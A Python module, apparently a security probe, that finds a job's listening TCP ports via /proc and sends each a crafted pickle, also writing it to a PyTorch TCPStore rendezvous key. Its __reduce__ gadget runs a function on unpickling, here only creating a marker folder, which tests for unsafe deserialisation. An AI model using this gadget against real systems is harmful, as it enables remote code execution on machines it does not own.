"""Where a job's processes listen, as the kernel tells, and what a stranger can write there."""

from __future__ import annotations

import base64
import ipaddress
import os
import pickle
import socket
import struct
from collections.abc import Callable, Iterable
from contextlib import suppress
from pathlib import Path
from typing import Any, NamedTuple

import torch.distributed as dist

_LISTENS = "0A"  # as in include/net/tcp_states.h
_ANSWER_S = 1.0  # of a store, which answers within a millisecond; other ports never do
_PING = struct.pack("<BIB4s", 0, 0x3C85F7CE, 13, b"ping")  # as in torch's TCPStoreBackend.hpp: a store repeats the word


class Port(NamedTuple):
    """Where a process accepts connections."""

    address: str
    number: int

    @property
    def is_loopback(self) -> bool:
        return ipaddress.ip_address(self.address).is_loopback


def job_of(process_id: int) -> set[int]:
    """A process and all that it started, and so on, as far as they still run."""
    found = {process_id}
    for children in Path(f"/proc/{process_id}/task").glob("*/children"):
        with suppress(OSError):  # the thread has ended
            for child in children.read_text().split():
                found |= job_of(int(child))
    return found


def ports_of(processes: Iterable[int]) -> set[Port]:
    """The TCP ports at which these processes listen."""
    sockets = {name for process in processes for name in _sockets_of(process)}
    found = set()
    for process in processes:
        for table in ("tcp", "tcp6"):
            with suppress(OSError):  # the process has ended, or there is no IPv6
                for line in Path(f"/proc/{process}/net/{table}").read_text().splitlines()[1:]:
                    words = line.split()
                    if words[3] == _LISTENS and f"socket:[{words[9]}]" in sockets:
                        found.add(_port(words[1]))
    return found


def _sockets_of(process: int) -> set[str]:
    found = set()
    with suppress(OSError):  # the process has ended
        for descriptor in os.listdir(f"/proc/{process}/fd"):
            with suppress(OSError):  # it was closed since
                found.add(os.readlink(f"/proc/{process}/fd/{descriptor}"))
    return found


def _port(word: str) -> Port:
    address, _, number = word.partition(":")
    words = struct.unpack(f">{len(address) // 8}I", bytes.fromhex(address))
    packed = struct.pack(f"={len(words)}I", *words)  # each word in the order of the machine
    ip = ipaddress.ip_address(packed)
    mapped = ip.ipv4_mapped if isinstance(ip, ipaddress.IPv6Address) else None
    return Port(str(mapped or ip), int(number, 16))


class Call:
    """A value whose unpickling makes a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self._call


def attack(port: Port, run_id: str, mark: Path) -> bool:
    """Write a pickle whose loading makes a folder to a port: as bytes, and to the keys of torch's rendezvous.

    Returns:
        Whether a store listens there.
    """
    word = pickle.dumps(Call(os.mkdir, str(mark)))
    _send(port, word)
    if _send(port, _PING) != _PING[-4:]:
        return False
    store = dist.TCPStore(port.address, port.number, is_master=False)
    store.set(f"torch.rendezvous.{run_id}", base64.b64encode(word).decode())
    return True


def _send(port: Port, word: bytes) -> bytes:
    """The first bytes of what a port answers; none where it waits for more."""
    with suppress(OSError), socket.create_connection((port.address, port.number), _ANSWER_S) as one:
        one.sendall(word)
        return one.recv(4)
    return b""
